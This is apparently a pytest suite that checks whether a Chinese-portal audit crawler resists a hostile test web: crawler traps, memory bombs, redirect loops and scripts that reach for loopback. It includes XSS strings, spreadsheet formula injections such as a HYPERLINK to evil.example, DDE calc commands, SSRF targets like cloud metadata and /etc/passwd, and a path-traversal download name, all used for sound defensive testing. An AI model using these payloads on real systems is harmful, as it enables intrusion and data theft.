"""Traps and malice: the run ends in bounded time and memory, reaches nothing it must not reach, and blames nobody."""

from __future__ import annotations

import asyncio
import resource
import time
from collections.abc import Iterable, Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from openpyxl import load_workbook
from playwright.async_api import async_playwright

from audits.crawl.chromium import find_chromium, sandboxes, switches
from audits.model import Outcome, Result
from audits.snapshot.store import Snapshot
from reports.build import build
from reports.words import RunStatus
from rules.load import parse_rules
from tests.hostile import manners
from tests.hostile.bureau import FRIEND, HOST, PDF, TOLD, Bureau, audited, served, wrongly_blamed
from tests.hostile.manners import leads, says
from tests.hostile.server import NEIGHBOUR_ADDRESS, PORTAL_ADDRESS, Asked, Handler, answer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

MARK = "owned-by-visitor"  # what a payload would leave behind where it is run
# What of all this is broken to a visitor too: pictures that are not there, a page that never ends, redirects without end.
REALLY_BROKEN = [
    *(f"http://{HOST}{path}" for path in ("/x", "/tzgg/x", "/aqbc/drip.htm", "/redirects/1")),
    *(f"http://{FRIEND}/out{n}.htm" for n in range(8)),
    "http://localhost/r",
]
PAYLOADS = (
    f"<img src=x onerror=\"document.title='{MARK}'\">安全播出检查通报",
    f"<script>document.title='{MARK}'</script>设备巡检通报",
    f'"><svg onload=document.title="{MARK}">值班通报',
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "+cmd|' /C calc'!A0 关于印发通知",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 关于值班安排的通知",
    "\u202e知通的班值于关\u202c\u200b",
    "javascript:document.title='" + MARK + "'//",
)


def grows(asked: Asked, deeper: str) -> str:
    """A page that leads further into itself."""
    return (
        f"<html><body><h1>第 {len(asked.path)} 页</h1><a href='{deeper}'>下一页</a><a href='/'>首页</a></body></html>"
    )


def endless(step: str) -> Handler:
    """`step`: the next address out of the present path."""

    async def handle(asked: Asked, writer: asyncio.StreamWriter) -> None:
        number = "".join(c for c in asked.path if c.isdigit())[-9:] or "0"
        deeper = step.format(path=asked.path, n=int(number) + 1, m=int(number) % 12 + 1, sid=f"{asked.times}{number}x")
        answer(writer, grows(asked, deeper).encode())

    return handle


def scripted(bureau: Bureau, script: str, words: str = "各单位要抓好落实，确保安全播出。") -> Handler:
    return says(bureau.page("脚本", f"<h1>脚本</h1><p>{words * 20}</p><div id='app'></div><script>{script}</script>"))


STORMS = {
    "alerts": "for (let i = 0; i < 200; i++) { alert(i); confirm(i); prompt(i); } onbeforeunload = () => '留下'; fetch('/');",
    "windows": "setInterval(() => window.open('/'), 5); for (let i = 0; i < 50; i++) window.open('/?w=' + i);",
    "loop": "fetch('/'); setTimeout(() => { while (true) {} }, 50);",
    "grows": "fetch('/'); setInterval(() => document.body.append('字'.repeat(1000)), 1);",
    "worker": "navigator.serviceWorker && navigator.serviceWorker.register('/sw.js'); fetch('/');",
    "reload": "fetch('/'); setTimeout(() => location.reload(), 10);",
    "runs": "fetch('/'); setTimeout(() => location.href = 'http://127.0.0.1:{secret}/steal', 20);",
    "downloads": "for (let i = 0; i < 30; i++) location.href = '/aqbc/file0.pdf?d=' + i; fetch('/');",
    "reaches": "for (const u of ['http://127.0.0.1:{secret}/a', 'http://localhost:{secret}/b', 'http://[::1]:{secret}/c',"
    " 'http://2130706433:{secret}/d', 'http://rebind.sample.org:{secret}/e', 'file:///etc/passwd'])"
    " { fetch(u, {mode: 'no-cors'}).catch(() => 0); new Image().src = u; }"
    " try { new WebSocket('ws://127.0.0.1:{secret}/w'); } catch (e) {}",
}


def traps(bureau: Bureau, megabytes: int) -> None:
    """Addresses without end, in the ways portals and attackers make them."""
    endings = {
        "/cal/day.jsp": "/cal/day.jsp?year=2026&month={m}&n={n}",
        "/facet/": "/facet/{n}/?sort={m}&filter={n}",
        "/session/": "/session/a.htm;jsessionid={sid}?t={sid}",
        "/deep/": "{path}deep/",
        "/relative/a.htm": "x/a.htm",
    }
    find = bureau.find
    leaf = says(bureau.page("普通文章", "<h1>普通文章</h1><p>" + "各单位要抓好落实。" * 40 + "</p>"))

    def trapped(host: str, path: str) -> Handler:
        for start, step in endings.items():
            if path.startswith(start.rpartition("/")[0] + "/") and host.endswith(HOST.removeprefix("www.")):
                return endless(step)
        if path.startswith("/many/"):
            return leaf
        return manners.endless_redirects() if path.startswith("/redirects/") else find(host, path)

    bureau.find = trapped  # type: ignore[method-assign]
    for start in (*endings, "/redirects/1"):
        bureau.extra_links.setdefault("aqbc", []).append((start, start))
    many = "".join(f"<a href='/many/{n}.htm'>第{n}号</a>" for n in range(3_000 if megabytes < 100 else 50_000))
    bureau.plant("aqbc", "/aqbc/many.htm", says(bureau.page("很多链接", many)), broken=False)
    bureau.plant("aqbc", "/aqbc/nested.htm", says("<div>" * 100_000 + "深处</div>"), broken=False)
    bureau.plant("aqbc", "/aqbc/flood.htm", manners.floods(megabytes), broken=False)
    bureau.plant("aqbc", "/aqbc/flood.pdf", manners.floods(megabytes), broken=False)
    bureau.plant("aqbc", "/aqbc/bomb.htm", manners.bomb(megabytes), broken=False)
    bureau.plant("aqbc", "/aqbc/drip.htm", manners.drips(b"<html>"), broken=False)
    bureau.plant(
        "aqbc", "/aqbc/refresh.htm", says("<meta http-equiv=refresh content='0;url=/aqbc/refresh2.htm'>"), broken=False
    )
    bureau.pages[HOST, "/aqbc/refresh2.htm"] = says("<meta http-equiv=refresh content='0;url=/aqbc/refresh.htm'>")
    bureau.plant(
        "aqbc",
        "/aqbc/utf8.htm",
        says(b"<html><title>\xff\xfe\xc3\x28</title><p>" + b"\xe5\xb9\xbf\xff" * 400),
        broken=False,
    )


def reaching_out(bureau: Bureau, secret: int, storms: Iterable[str]) -> None:
    """Redirects and links to where nobody may go, by HTTP and by script."""
    targets = (
        "file:///etc/passwd", f"http://127.0.0.1:{secret}/r", f"http://localhost:{secret}/r", f"http://0x7f.1:{secret}/r",
        f"http://rebind.sample.org:{secret}/r", "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "gopher://127.0.0.1/",
    )  # fmt: skip
    for n, target in enumerate(targets):
        bureau.plant("gzdt", f"/gzdt/out{n}.htm", leads(target), broken=False)
        bureau.plant("gzdt", f"http://{FRIEND}/out{n}.htm", leads(target), broken=False)
        bureau.extra_links["gzdt"].append((target, f"直达 {n}"))
    for name in storms:
        body = scripted(bureau, STORMS[name].replace("{secret}", str(secret)))
        bureau.plant("gzdt", f"/gzdt/{name}.htm", body, broken=False)
    bureau.plant("gzdt", "/gzdt/..%2f..%2f..%2fetc%2fpasswd.pdf", says(PDF, kind="application/pdf"), broken=False)
    name = "attachment; filename=../../../../../tmp/owned.pdf"
    bureau.plant(
        "gzdt", "/gzdt/forced.htm", says(PDF, kind="application/octet-stream", Content_Disposition=name), broken=False
    )


async def run(
    folder: Path, megabytes: int, storms: Iterable[str], **settings: object
) -> tuple[Result, list[str], Path]:
    """The whole attack; what came to the secret place on loopback, and the snapshot."""
    knocks: list[str] = []

    async def secret(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        knocks.append((await reader.read(200)).decode("latin-1"))
        writer.close()

    listener = await asyncio.start_server(secret, "127.0.0.1", 0)
    bureau = Bureau(articles=3, columns=3)
    bureau.raw_entries["tzgg"] = list(PAYLOADS)
    traps(bureau, megabytes)
    reaching_out(bureau, listener.sockets[0].getsockname()[1], storms)
    async with served(bureau.build()) as net:
        known = net.names.answer
        net.names.answer = lambda name, kind: (
            ["127.0.0.1"] if name == "rebind.sample.org" and kind == "A" else known(name, kind)
        )
        result = await audited(net, folder, max_bytes=2_000_000, **settings)
    listener.close()
    assert list(wrongly_blamed(result, REALLY_BROKEN)) == []
    return result, knocks, folder / "第1次.sqlite"


async def opened(pages: list[Path]) -> list[str]:
    """What payloads left behind when every page of a report was opened: titles, dialogs, requests that leave the folder."""
    marks: list[str] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(
            executable_path=find_chromium(), chromium_sandbox=sandboxes()[-1], args=switches()
        )
        page = await browser.new_page()
        page.on("dialog", lambda dialog: marks.append(dialog.message))
        page.on(
            "request", lambda request: None if request.url.startswith(("file:", "data:")) else marks.append(request.url)
        )
        for path in pages:
            await page.goto(path.as_uri())
            if MARK in await page.title() or await page.locator("svg[onload], img[onerror]").count():
                marks.append(str(path))
        await browser.close()
    return marks


def formulas(folder: Path) -> list[str]:
    """Cells of the workbooks that a spreadsheet would compute."""
    return [
        f"{path.name} {cell.coordinate} {cell.value}"
        for path in folder.rglob("*.xlsx")
        for sheet in load_workbook(path)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and any(word in str(cell.value) for word in ("evil", "cmd", "SUM(1+1)", "2+3"))
    ]


def peers(path: Path) -> Iterator[str]:
    snapshot = Snapshot.open(path)
    for attempt in snapshot.all_attempts():
        if attempt.peer and attempt.error is None:
            yield attempt.peer.rpartition(":")[0]
    snapshot.close()


def check(folder: Path, megabytes: int, storms: Iterable[str], **settings: object) -> None:
    before = time.monotonic()
    result, knocks, path = asyncio.run(run(folder, megabytes, storms, **settings))
    memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    print(f"{time.monotonic() - before:.0f} s, {memory} MB")
    assert memory < 600  # of this process, the hostile server's own floods and bombs among it
    assert knocks == []
    assert set(peers(path)) <= {PORTAL_ADDRESS, NEIGHBOUR_ADDRESS}
    assert not Path("/tmp/owned.pdf").exists()
    assert {c.outcome for c in result.cells if c.check == "columns"} == {Outcome.PASS}


def test_a_malicious_web_neither_holds_the_run_nor_leads_it_astray(tmp_path: Path) -> None:
    check(tmp_path, 4, ("runs", "reaches"), max_pages=150, timeout_seconds=1)


@pytest.mark.soak
@pytest.mark.timeout(1800)
def test_all_malice_at_full_size(tmp_path: Path) -> None:
    check(tmp_path, 100, STORMS, max_pages=4000)


def test_payloads_in_titles_and_links_stay_text_in_the_report(tmp_path: Path) -> None:
    bureau = Bureau(articles=len(PAYLOADS), columns=2)
    bureau.raw_entries["tzgg"] = list(PAYLOADS)
    for n, payload in enumerate(PAYLOADS):
        bureau.extra_links.setdefault("tzgg", []).append((f"/dead{n}.htm?q={quote(payload)}", payload))
        bureau.extra_links["tzgg"].append((f'/x{n}"onmouseover="{MARK}.htm', payload))

    async def run_and_open() -> tuple[int, list[str]]:
        async with served(bureau.build()) as net:
            rules = parse_rules(net.rules())
            result = await audited(net, tmp_path)
        build(result, rules, tmp_path / "第1次.sqlite", tmp_path / "out", "2026-11", status=RunStatus.DRAFT)
        pages = sorted((tmp_path / "out").rglob("*.html"))
        assert len(pages) > 1
        return sum(1 for f in result.findings if f.outcome in TOLD), await opened(pages)

    findings, marks = asyncio.run(run_and_open())
    assert findings >= len(PAYLOADS)
    assert marks == []
    assert formulas(tmp_path / "out") == []
